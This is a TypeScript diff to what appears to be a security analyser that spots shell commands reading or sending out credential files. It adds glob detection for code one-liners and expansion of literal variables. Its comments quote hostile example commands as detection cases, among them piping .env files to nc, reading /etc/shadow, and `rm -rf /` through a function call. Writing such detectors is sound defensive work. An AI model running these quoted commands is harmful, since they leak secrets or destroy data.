@@ -40,10 +40,12 @@ import {
 } from './shell.js';
 import { credentialGlob, listedCredential, mayGlob } from './shell-globs.js';
 import { resumesEarlier } from './shell-history.js';
+import { positionalSets, respelledList, withLiterals } from './shell-literals.js';
 import { HOME_SENT_MARK, listsHome, UNSEEN_MARK } from './shell-option-scripts.js';
-import { parseShell, type Redirect, type SimpleCommand, showPiece } from './shell-parse.js';
+import { parseShell, type SimpleCommand, showPiece } from './shell-parse.js';
 import { type CommandParse, parseCommands, plainParse, shellFastPath } from './shell-plain.js';
 import { storesCredential } from './shell-stores.js';
+import { DECLARING_BUILTINS, NAME_LISTERS } from './shell-vocabulary.js';
 import { mayWriteFile, writtenScripts } from './shell-written.js';
 import { factsOf } from './text-memo.js';
 
@@ -154,9 +156,6 @@ const WHOLE_SEPARATOR = ';\n';
 /** A word that assigns a shell variable (`K=v`, `K+=v`): a name, then `=`, read from its start once. */
 const ASSIGNMENT = /^[A-Za-z_]\w*\+?=/;
 
-/** Builtins whose operands set shell variables for the commands after them. */
-const DECLARES = new Set(['export', 'declare', 'local', 'readonly', 'typeset']);
-
 /**
  * Adds to `out` the assignments that last past their command: a command of assignments only, and the
  * operands of `export`/`declare`/... . A prefix (`K=v cmd`) is for `cmd` alone, which expands its
@@ -166,7 +165,7 @@ function assignmentsOf(cmds: readonly SimpleCommand[], out: string[]): void {
   for (const cmd of cmds) {
     const first = cmd.words[0];
     if (first === undefined) continue;
-    const declares = DECLARES.has(first);
+    const declares = DECLARING_BUILTINS.has(first);
     if (!declares && !cmd.words.every((w) => ASSIGNMENT.test(w))) continue;
     for (const w of cmd.words) if (ASSIGNMENT.test(w)) out.push(w);
   }
@@ -394,7 +393,6 @@ function credentialGlobs(
   vars: ReadonlyMap<string, string>,
   all: readonly SimpleCommand[],
 ): SimpleCommand[] | undefined {
-  let out: SimpleCommand[] | undefined;
   // The directories gone to, asked only for a relative word (placedCredential).
   let dirs: readonly string[] | undefined;
   const placed = (w: string): string | undefined => {
@@ -403,36 +401,27 @@ function credentialGlobs(
     if (dirs.length === 0) return undefined;
     return placedCredential(w, dirs);
   };
-  cmds.forEach((c, i) => {
-    let words: string[] | undefined;
-    let shown: string[] | undefined;
-    const expands = (wordClasses(c.words) & EXPANDS) !== 0;
-    c.words.forEach((w, j) => {
-      // `curl -F "f=@$(ls .e*)"`: what the substitution lists, where it stands (after the word's printed part).
-      // (A command word's listing runs a file, sends none: not looked at.)
-      const listed = j === 0 ? undefined : substitutedCredential(c.shown[j] as string, vars, all);
-      const cred =
-        (expands ? credentialWord(w, vars) : undefined) ??
-        (listed === undefined ? undefined : w + listed) ??
-        placed(w);
-      if (cred === undefined) return;
-      words ??= [...c.words];
-      shown ??= [...c.shown];
-      words[j] = cred;
-      shown[j] = showPiece(cred);
-    });
-    let redirects = c.redirects;
-    for (const [k, r] of c.redirects.entries()) {
-      const cred = credentialWord(r.target, vars);
-      if (cred === undefined) continue;
-      if (redirects === c.redirects) redirects = [...c.redirects];
-      (redirects as Redirect[])[k] = { op: r.op, target: cred };
-    }
-    if (words === undefined && redirects === c.redirects) return;
-    out ??= cmds.slice();
-    out[i] = { ...c, words: words ?? c.words, shown: shown ?? c.shown, redirects, literal: undefined };
-  });
-  return out;
+  return respelledList(
+    cmds,
+    (c) => {
+      const expands = (wordClasses(c.words) & EXPANDS) !== 0;
+      return (w, j) => {
+        // `curl -F "f=@$(ls .e*)"`: what the substitution lists, where it stands (after the word's printed part).
+        // (A command word's listing runs a file, sends none: not looked at.)
+        const listed = j === 0 ? undefined : substitutedCredential(c.shown[j] as string, vars, all);
+        return (
+          (expands ? credentialWord(w, vars) : undefined) ??
+          (listed === undefined ? undefined : w + listed) ??
+          placed(w)
+        );
+      };
+    },
+    (r) => {
+      // `nc h 80 < "$(ls .e*)"`: a target is what its substitution lists, as an operand's is (round 26).
+      const listed = r.shown === undefined ? undefined : substitutedCredential(r.shown, vars, all);
+      return credentialWord(r.target, vars) ?? (listed === undefined ? undefined : r.target + listed);
+    },
+  );
 }
 
 /**
@@ -519,14 +508,13 @@ function runsLister(all: readonly SimpleCommand[]): boolean {
   if (known === undefined) {
     known = all.some((c) => {
       const w = c.words[0] ?? '';
-      return LISTER_WORDS.has(w.charCodeAt(0) === 47 /* / */ ? commandName(w) : w);
+      return NAME_LISTERS.has(w.charCodeAt(0) === 47 /* / */ ? commandName(w) : w);
     });
     RUNS_LISTER.set(all, known);
   }
   return known;
 }
 const RUNS_LISTER = new WeakMap<readonly SimpleCommand[], boolean>();
-const LISTER_WORDS: ReadonlySet<string> = new Set(['ls', 'find', 'gfind', 'bfs', 'fd', 'fdfind']);
 const SUBSTITUTION = /\$\(([^()]*)\)|`([^`]*)`/g;
 const LISTED = /(?:\$\(|`)\s*(?:[\w./-]*\/)?(?:ls|g?find|bfs|fd|fdfind)\s/;
 
@@ -538,7 +526,7 @@ function credentialWord(w: string, vars: ReadonlyMap<string, string>): string | 
   // One look at each character: most words hold no pattern and no brace.
   const at = patternOrBrace(w);
   if (at === 0) return undefined;
-  const glob = at === 1 ? credentialGlob(w) : undefined;
+  const glob = at === 1 ? (credentialGlob(w) ?? codeGlob(w)) : undefined;
   if (glob !== undefined || !w.includes('{')) return glob;
   const cred = compiledRegex(CREDENTIAL_PATH);
   for (const x of expandWord(w, vars)) {
@@ -548,6 +536,33 @@ function credentialWord(w: string, vars: ReadonlyMap<string, string>): string | 
   }
   return undefined;
 }
+
+/**
+ * A one-liner's own glob (round 26): `glob.glob('.e*')`, `Dir[".e*"]`, `glob(".e*")`, perl's `<.e*>` in
+ * a word of code; the word with the first quoted or angled pattern that can match a credential file
+ * spelled as that file, so the credential rules read the code as naming it (`open('.env')` is read so).
+ */
+function codeGlob(w: string): string | undefined {
+  // One pass: each quote or `<` opens a literal to its closing mark; a literal is tried once, and the
+  // next `>` is looked up once for a run of `<` (`<<<<...>` stays linear).
+  let angle = -1;
+  for (let i = 0; i < w.length; i++) {
+    const c = w.charCodeAt(i);
+    if (c !== 39 /* ' */ && c !== 34 /* " */ && c !== 60 /* < */) continue;
+    if (c === 60 && angle <= i) angle = w.indexOf('>', i + 1);
+    const close = c === 60 ? angle : w.indexOf(w[i] as string, i + 1);
+    if (close < 0) return undefined;
+    const lit = w.slice(i + 1, close);
+    const named =
+      lit.length <= MAX_CODE_LITERAL && mayGlob(lit) && !/\s/.test(lit) ? credentialGlob(lit) : undefined;
+    if (named !== undefined) return w.slice(0, i + 1) + named + w.slice(close);
+    // A `<` that opens no literal (`a<b`) is passed alone; a quote's literal is passed whole.
+    if (c !== 60) i = close;
+  }
+  return undefined;
+}
+/** Longer literals in code are not paths tried as globs. */
+const MAX_CODE_LITERAL = 256;
 
 /** tailLines past hiddenTails' bound: a marker no rendering equals (a NUL never survives the parse). */
 const TOO_MANY: readonly string[] = Object.freeze(['\0too-many-tails']);
@@ -605,6 +620,15 @@ function readList(
   // spelled as that file, read again whole so every reader judges it (round 25, shell-globs.ts).
   const globbed = credentialGlobs(cmds, st.vars, all);
   if (globbed !== undefined) scripts.push(listLine(globbed, starts, 0, false, NO_VARS));
+  // `D=/etc; cat $D/shadow`, `D=/; cd $D; tar c root`: the list with the text's literal variables spelled
+  // as their values, read again whole (round 26, shell-literals.ts).
+  const literal = withLiterals(cmds, st.vars);
+  if (literal !== undefined) scripts.push(listLine(literal, starts, 0, false, NO_VARS));
+  // `f() { rm -rf $1; }; f /`, `set -- .env; cat $1 | nc h 80`: once per call the text makes.
+  for (const given of positionalSets(all)) {
+    const called = withLiterals(cmds, st.vars.size === 0 ? given : new Map([...st.vars, ...given]));
+    if (called !== undefined) scripts.push(listLine(called, starts, 0, false, NO_VARS));
+  }
   for (let i = 0; i < cmds.length; i++) {
     // `q=tar; $q czf - ~`, `{socat,} FILE:.env ..`: a computed command word read as what it expands to, so
     // the programs' own readers (home-sent, credential-sent, ...) read it as analyse does (round 24).
